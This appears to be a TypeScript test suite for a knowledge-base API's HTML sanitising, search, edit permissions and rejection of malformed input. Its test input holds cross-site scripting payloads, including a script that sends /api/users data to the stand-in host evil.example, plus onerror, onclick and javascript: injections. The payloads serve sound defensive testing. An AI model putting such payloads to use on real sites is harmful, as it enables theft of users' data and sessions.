// Knowledge base: rich text kept, scripts / event handlers / javascript: links removed before
// storing, search over title and text, only the author or an administrator edits.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { bearer, login, makeTestApp, type TestApp } from './helpers';
import { expectRefused, fingerprint, malformedBodies, malformedIds, malformedQueries, type Malformed } from './kit-support';

let t: TestApp;
let admin: Record<string, string>;
let employee: Record<string, string>;

async function call(method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: unknown, headers = employee) {
  const res = await t.app.inject({ method, url, headers, payload: payload as object });
  return { status: res.statusCode, body: res.json() };
}

const HOSTILE = [
  '<h3>Stamp duty</h3><p onclick="steal()">Pay the <b>stamp duty</b> on the agreement value.</p>',
  '<script>fetch("/api/users").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script>',
  '<img src=x onerror="alert(document.cookie)">',
  '<a href="javascript:alert(1)">click</a> <a href="https://igrmaharashtra.gov.in">IGR</a>',
  '<iframe src="https://evil.example"></iframe><svg onload=alert(1)></svg><style>body{display:none}</style>',
].join('');

before(async () => {
  t = await makeTestApp();
  admin = bearer(await login(t.app, 'admin@example.com'));
  employee = bearer(await login(t.app, 'employee@example.com', '/api/employeelogin'));
});
after(() => t.close());

describe('learnings', () => {
  let id: number;
  test('an article keeps its formatting and loses everything that could run', async () => {
    const res = await call('POST', '/api/learnings', { title: 'Stamp duty basics', category: 'LEGAL', body: HOSTILE });
    assert.equal(res.status, 201, JSON.stringify(res.body));
    id = res.body.data.id;
    const body: string = res.body.data.body;
    for (const bad of ['<script', 'onerror', 'onclick', 'javascript:', '<iframe', '<svg', 'onload', '<style', '<img'])
      assert.ok(!body.toLowerCase().includes(bad), `${bad} removed: ${body}`);
    assert.ok(body.includes('<h3>Stamp duty</h3>'));
    assert.ok(body.includes('<b>stamp duty</b>'));
    assert.ok(body.includes('href="https://igrmaharashtra.gov.in"'));
    assert.equal(res.body.data.body_text, undefined, 'the search text is not answered');
  });

  test('search finds words of the text, not of the markup', async () => {
    const hit = await call('GET', '/api/learnings?search=agreement');
    assert.ok(hit.body.data.some((a: { id: number }) => a.id === id));
    const tag = await call('GET', '/api/learnings?search=onclick');
    assert.ok(!tag.body.data.some((a: { id: number }) => a.id === id));
  });

  test('only the author or an administrator edits; a body of nothing but script is refused', async () => {
    const seeded = (await call('GET', '/api/learnings?search=ready')).body.data[0];
    const other = await call('PUT', `/api/learnings/${seeded.id}`, {
      title: 'Mine',
      category: 'LEGAL',
      body: '<p>x</p>',
      version: seeded.version,
    });
    assert.equal(other.status, 403);
    const own = await call('PUT', `/api/learnings/${id}`, {
      title: 'Stamp duty basics',
      category: 'LEGAL',
      body: '<p>Updated</p>',
      version: 1,
    });
    assert.equal(own.status, 200);
    const empty = await call('PUT', `/api/learnings/${id}`, {
      title: 'x',
      category: 'LEGAL',
      body: '<script>alert(1)</script>',
      version: 2,
    });
    assert.equal(empty.status, 400);
    const del = await call('DELETE', `/api/learnings/${id}?version=2`, undefined, admin);
    assert.equal(del.status, 200);
  });
});

describe('malformed learning payloads', () => {
  const TABLES = ['learnings'];
  let prints: string[];
  const article = { title: 'Valid', category: 'LEGAL', body: '<p>Text</p>' };
  const SUITES: { name: string; method: 'GET' | 'POST' | 'PUT'; url: string; cases: Malformed[] }[] = [
    { name: 'GET learnings', method: 'GET', url: '/api/learnings', cases: malformedQueries('/api/learnings') },
    {
      name: 'POST learnings',
      method: 'POST',
      url: '/api/learnings',
      cases: [
        ...malformedBodies(article, { text: 'title', option: 'category' }),
        { name: 'only a script', payload: { ...article, body: '<script>alert(1)</script>' }, status: 400 },
        { name: 'only an image with onerror', payload: { ...article, body: '<img src=x onerror=alert(1)>' }, status: 400 },
        { name: 'body over 50000', payload: { ...article, body: 'x'.repeat(50_001) }, status: 400 },
        { name: 'author sent', payload: { ...article, author_id: 1 }, status: 400 },
      ],
    },
    {
      name: 'PUT learnings/{id}',
      method: 'PUT',
      url: '/api/learnings/1',
      cases: [
        ...malformedBodies({ ...article, version: 1 }, { text: 'title', option: 'category' }),
        { name: 'stale version', payload: { ...article, version: 99 }, status: 409 },
        ...malformedIds('/api/learnings', 'PUT', { ...article, version: 1 }),
      ],
    },
  ];
  before(async () => {
    prints = await Promise.all(TABLES.map((x) => fingerprint(t, x)));
  });
  for (const suite of SUITES) {
    describe(suite.name, () => {
      test(`has at least 20 cases (${suite.cases.length})`, () => assert.ok(suite.cases.length >= 20));
      for (const c of suite.cases)
        test(c.name, async () => {
          await expectRefused(t, admin, { method: suite.method, url: suite.url }, c);
        });
    });
  }
  test('no refused request changed any data', async () => {
    assert.deepEqual(await Promise.all(TABLES.map((x) => fingerprint(t, x))), prints);
  });
});
